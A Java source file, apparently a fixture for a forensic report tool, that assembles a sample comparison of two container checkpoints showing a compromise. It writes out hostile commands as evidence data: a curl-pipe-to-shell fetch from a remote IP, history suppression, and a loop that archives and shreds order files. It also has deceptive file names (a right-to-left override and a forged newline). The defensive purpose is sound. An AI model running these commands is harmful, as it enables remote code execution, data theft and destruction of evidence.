package org.icecore.report;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.icecore.evidence.ByteRange;
import org.icecore.report.Column.Alignment;

/// A comparison of two checkpoints as the report of one would look, with the names that hostile evidence brings.
final class SampleReport {

    static final String CHINESE = "/srv/数据/报告-最终版.txt";
    static final String ARABIC = "/srv/تقرير السلامة.pdf";
    static final String HEBREW = "/srv/דוח סופי.txt";
    static final String EMOJI = "/tmp/🔥 party 😀.sh";
    static final String OVERRIDE = "/tmp/invoice\u202Efdp.exe";
    static final String FORGED = "/tmp/a\n+  1  init  nothing changed";
    static final String HANGUL = "/tmp/\uD55C\uAE00";

    private SampleReport() {}

    static Report comparison() {
        return new Report(
                "Comparison of two checkpoints",
                "Container shop, before and after 2026-11-21 22:52:01 UTC",
                "en-GB",
                new Tool("Icecore", "0.1.0"),
                Instant.parse("2026-11-22T00:10:00Z"),
                identity(),
                List.of(summary(), tasks(), mappings(), files(), memory(), limits()));
    }

    private static List<Fact> identity() {
        return List.of(
                Fact.of("Container", "shop").at("config.dump+0x2e..0x3a"),
                Fact.quoted(
                        "Container id",
                        "88ac1069eb331ad09dbfc7a1c6f3b1f7a60dd3d9d2c3a9aa07e4f0b0de1fbb1c"),
                Fact.quoted("Image", "localhost/bench/shop:2.3").at("config.dump+0x13f..0x157"),
                Fact.of("Engine and runtime", "Podman 5.4.2, crun 1.21"),
                Fact.of(
                        "Checkpointed",
                        "2026-11-21 22:51:07 UTC (before), 2026-11-21 22:52:01 UTC (after)"),
                Fact.quoted("Exhibit A (before)", "shop-before.tar"),
                Fact.of("Size of A", "36.1 MiB (37,883,904 bytes)"),
                Fact.quoted(
                        "SHA-256 of A",
                        "2a5f0e8b7fd6c0c1f3ddc0c8f9d1a4a0c1d2e3f405162738495a6b7c8d9e91c0"),
                Fact.quoted("Exhibit B (after)", "shop-after.tar"),
                Fact.of("Size of B", "36.4 MiB (38,168,576 bytes)"),
                Fact.quoted(
                        "SHA-256 of B",
                        "b1946ac92492d2347c6235b4d2611184a3f1f9f3a6b2b2d5f8d0a7c1e2f3a4b5"),
                Fact.of("Examiner", "not stated"));
    }

    private static Section summary() {
        var changes =
                Table.of(
                        "What changed, by kind",
                        List.of(
                                Column.text("Kind", 3),
                                Column.number("Before"),
                                Column.number("After"),
                                Column.number("Added"),
                                Column.number("Removed"),
                                Column.number("Changed"),
                                Column.text("See", 3)),
                        List.of(
                                counts(Mark.CHANGED, "Tasks", "tasks", "5", "12", "8", "1", "2"),
                                counts(
                                        Mark.CHANGED,
                                        "Mappings",
                                        "mappings",
                                        "143",
                                        "391",
                                        "250",
                                        "2",
                                        "2"),
                                counts(
                                        Mark.CHANGED,
                                        "Open files",
                                        "files",
                                        "31",
                                        "52",
                                        "22",
                                        "1",
                                        "0"),
                                counts(
                                        Mark.CHANGED,
                                        "Memory",
                                        "memory",
                                        "2,613",
                                        "2,702",
                                        "89",
                                        "0",
                                        "14")));
        return Section.of(
                "Summary",
                "summary",
                List.of(
                        Paragraph.of(
                                Text.of(
                                        new Span.Plain("Between the two checkpoints "),
                                        new Span.Emphasised("eight tasks were added and one ended"),
                                        new Span.Plain(
                                                ". Two mappings of task 6 became executable, see "),
                                        new Span.Link("the heap of task 6", "heap-6"),
                                        new Span.Plain("; the bytes at "),
                                        new Span.Monospaced("0x7f2f369d0000"),
                                        new Span.Plain(" are new. Task 56 listens on "),
                                        new Span.Monospaced("127.0.0.1:4445"),
                                        new Span.Plain(" and was not there before."))),
                        changes,
                        Note.of(
                                Note.Kind.COVERAGE,
                                "All tasks in pstree.img of both exhibits were compared, with all their"
                                        + " mappings and open files. Pages that CRIU left out because they equal a file of the image"
                                        + " were not compared: 4,118 pages before, 4,240 pages after.")));
    }

    private static Row counts(Mark mark, String kind, String anchor, String... numbers) {
        var cells = new ArrayList<Text>();
        cells.add(Text.of(kind));
        for (var number : numbers) {
            cells.add(Text.of(number));
        }
        cells.add(Text.link("section on " + kind.toLowerCase(java.util.Locale.ROOT), anchor));
        return new Row(mark, cells, Optional.empty());
    }

    private static Section tasks() {
        var columns =
                List.of(
                        Column.text("Task", 4),
                        Column.number("pid"),
                        Column.word("State"),
                        Column.number("Threads"),
                        Column.number("uid"),
                        Column.quoted("Command line", 7));
        var nodes =
                List.of(
                        node(
                                0,
                                Mark.NONE,
                                "start.sh",
                                "1",
                                "alive",
                                "1",
                                "0",
                                "/bin/sh /srv/start.sh"),
                        node(
                                1,
                                Mark.CHANGED,
                                "python3",
                                "6",
                                "alive",
                                "3",
                                "1000",
                                "python3 -m shop --listen 0.0.0.0:8080 --workers 2"),
                        node(
                                2,
                                Mark.ADDED,
                                "sh",
                                "41",
                                "alive",
                                "1",
                                "1000",
                                "sh -c 'curl -s http://203.0.113.9/i | sh'"),
                        node(3, Mark.ADDED, "curl", "42", "zombie", "1", "1000", ""),
                        node(1, Mark.REMOVED, "sleep", "7", "alive", "1", "0", "sleep 3600"),
                        node(
                                1,
                                Mark.ADDED,
                                "sshd",
                                "56",
                                "alive",
                                "1",
                                "0",
                                "sshd: /usr/sbin/sshd -D -p 4445 [listener] 0 of 10-100 startups"),
                        node(
                                2,
                                Mark.ADDED,
                                "kworker/u8:3",
                                "72",
                                "alive",
                                "2",
                                "0",
                                "[kworker/u8:3]"));
        return Section.of(
                "Tasks",
                "tasks",
                List.of(
                        Tree.of("Task tree, both checkpoints", columns, nodes),
                        Note.of(
                                        Note.Kind.CAUTION,
                                        "Task 72 calls itself kworker, as a thread of the kernel would, but has an"
                                                + " address space. That is an observation; who started it cannot be read from the checkpoint.")
                                .at("checkpoint/core-72.img+0x8..0x1c4")));
    }

    private static Tree.Node node(int depth, Mark mark, String... cells) {
        var row = Row.of(mark, cells);
        return new Tree.Node(
                depth,
                mark == Mark.NONE
                        ? row
                        : row.at(
                                "checkpoint/pstree.img+0x"
                                        + (8 + depth * 16)
                                        + "..0x"
                                        + (24 + depth * 16)));
    }

    private static Section mappings() {
        var columns =
                List.of(
                        Column.exact("Address"),
                        Column.number("Size"),
                        Column.exact("Perm."),
                        Column.word("Kind"),
                        Column.quoted("File and offset", 1),
                        Column.word("Pages"));
        var rows = new ArrayList<Row>();
        rows.add(
                Row.of(
                        Mark.CHANGED,
                        "5614c8204000-5614c8225000",
                        "132 KiB",
                        "rw-p",
                        "heap",
                        "",
                        "33 present"));
        rows.add(
                Row.of(
                                Mark.ADDED,
                                "7f2f369d0000-7f2f369d4000",
                                "16 KiB",
                                "rwxp",
                                "anonymous",
                                "",
                                "4 present")
                        .at("checkpoint/mm-6.img+0x2d1..0x2ef"));
        rows.add(
                Row.of(
                        Mark.REMOVED,
                        "7f2f36a00000-7f2f36a01000",
                        "4 KiB",
                        "r--s",
                        "file",
                        "/srv/shop/cache/very-long-name-of-a-cache-file-that-does-not-fit-into-the-column/0000000000000001.idx +0x1000",
                        "0 present"));
        for (var i = 0; i < 36; i++) {
            var start = 0x7f2f37000000L + i * 0x21000L;
            rows.add(
                    Row.of(
                            "%012x-%012x".formatted(start, start + 0x21000),
                            "132 KiB",
                            i % 3 == 0 ? "r-xp" : "r--p",
                            "file",
                            "/usr/lib/x86_64-linux-gnu/libexample-%d.so.6 +0x%x"
                                    .formatted(i, i * 0x1000),
                            i % 2 == 0 ? "33 not captured" : "1 present"));
        }
        return new Section(
                "Mappings",
                "mappings",
                List.of(),
                List.of(
                        Section.of(
                                "Task 6, python3",
                                "mappings-6",
                                List.of(
                                        Table.of("Mappings of task 6", columns, rows)
                                                .omitting(104))),
                        Section.of(
                                "Task 72, kworker/u8:3",
                                "mappings-72",
                                List.of(Table.of("Mappings of task 72", columns, List.of())))));
    }

    private static Section files() {
        var columns =
                List.of(
                        Column.number("fd"),
                        Column.word("Kind"),
                        Column.quoted("Path or endpoint", 1),
                        new Column("Flags", Alignment.LEFT, true, 0),
                        Column.number("Position"));
        return Section.of(
                "Open files and sockets",
                "files",
                List.of(
                        Table.of(
                                "Open files of task 6",
                                columns,
                                List.of(
                                        Row.of("0", "regular", "/dev/null", "O_RDONLY", "0"),
                                        Row.of(
                                                Mark.ADDED,
                                                "3",
                                                "regular",
                                                CHINESE,
                                                "O_RDWR",
                                                "4,096"),
                                        Row.of(Mark.ADDED, "4", "regular", ARABIC, "O_RDONLY", "0"),
                                        Row.of(Mark.ADDED, "5", "regular", HEBREW, "O_RDONLY", "0"),
                                        Row.of(Mark.ADDED, "6", "regular", EMOJI, "O_RDONLY", "0"),
                                        Row.of(
                                                Mark.ADDED,
                                                "7",
                                                "regular",
                                                OVERRIDE,
                                                "O_RDONLY",
                                                "0"),
                                        Row.of(Mark.ADDED, "8", "regular", FORGED, "O_RDONLY", "0"),
                                        Row.of(Mark.ADDED, "9", "regular", HANGUL, "O_RDONLY", "0"),
                                        Row.of(
                                                Mark.REMOVED,
                                                "10",
                                                "tcp",
                                                "10.88.0.4:8080 -> 10.88.0.1:51234 ESTABLISHED",
                                                "O_RDWR",
                                                "")))));
    }

    private static Section memory() {
        var before = new byte[96];
        var after = new byte[96];
        var text = "session=guest;role=user;".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(text, 0, before, 20, text.length);
        var changed = "session=guest;role=root;".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(changed, 0, after, 20, changed.length);
        after[70] = (byte) 0x90;
        after[71] = (byte) 0xff;
        var partly =
                new HexExcerpt.Side(
                        "after",
                        List.of(
                                HexRun.Captured.of(
                                        new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0}),
                                new HexRun.NotCaptured(
                                        100, "clean page of /usr/lib/x86_64-linux-gnu/libc.so.6"),
                                HexRun.Captured.of(new byte[] {'e', 'n', 'd', '\\'})),
                        Optional.of("checkpoint/pages-3.img+0x1a2000..0x1a2010"));
        var injected = new byte[40];
        for (var i = 0; i < injected.length; i++) {
            injected[i] = (byte) (i < 16 ? 0xfc - i * 7 : 'A' + i % 26);
        }
        return new Section(
                "Memory",
                "memory",
                List.of(
                        Paragraph.of(
                                "Every run of changed bytes is shown with the eight bytes before and after it, so far as the limit allows.")),
                List.of(
                        Section.of(
                                "Task 6, heap",
                                "heap-6",
                                List.of(
                                        HexExcerpt.compare(
                                                        "Heap of task 6, 5 bytes changed",
                                                        0x5614c820400cL,
                                                        HexExcerpt.Side.of("before", before)
                                                                .at(
                                                                        "checkpoint/pages-2.img+0x400c..0x406c"),
                                                        HexExcerpt.Side.of("after", after)
                                                                .at(
                                                                        "checkpoint/pages-2.img+0x500c..0x506c"))
                                                .anchored("heap-6-bytes")
                                                .omitting(1284))),
                        Section.of(
                                "Task 6, new executable mapping",
                                "exec-6",
                                List.of(
                                        new HexExcerpt(
                                                Optional.empty(),
                                                "Anonymous mapping, readable, writable and executable",
                                                0x7f2f369d0000L,
                                                List.of(HexExcerpt.Side.of("after", injected)),
                                                List.of(new ByteRange(16, 24)),
                                                0),
                                        HexExcerpt.of(
                                                "A page of libc, in part", 0x7f2f37000000L, partly),
                                        HexExcerpt.compare(
                                                "The same place on both sides",
                                                0x7f2f369d0000L,
                                                HexExcerpt.Side.absent("before", 40, "not mapped"),
                                                HexExcerpt.Side.of("after", injected)))),
                        Section.of(
                                "Command history in memory",
                                "history",
                                List.of(
                                        Listing.of(
                                                        "Strings of task 56",
                                                        List.of(
                                                                "export HISTFILE=/dev/null",
                                                                "curl -s http://203.0.113.9/i | sh",
                                                                "    indented, and a tab\there",
                                                                "",
                                                                "for f in /srv/shop/orders/*.json; do tar rf /tmp/.o.tar \"$f\" && shred -u \"$f\"; done; gzip -9 /tmp/.o.tar; mv /tmp/.o.tar.gz /tmp/.o"))
                                                .at("checkpoint/pages-9.img+0x3000..0x3107")))));
    }

    private static Section limits() {
        return Section.of(
                "Limits",
                "limits",
                List.of(
                        Note.of(
                                Note.Kind.NOTE,
                                "Times are those that the engine wrote; no other clock was at hand."),
                        FactList.of(
                                Fact.of(
                                        "Rows in a table",
                                        "at most 200; what is left out is said below the table"),
                                Fact.of("Bytes in an excerpt", "at most 1,024 on each side"),
                                Fact.of(
                                        "Signs",
                                        "+ added, - removed, ~ changed, ?? not captured"))));
    }
}
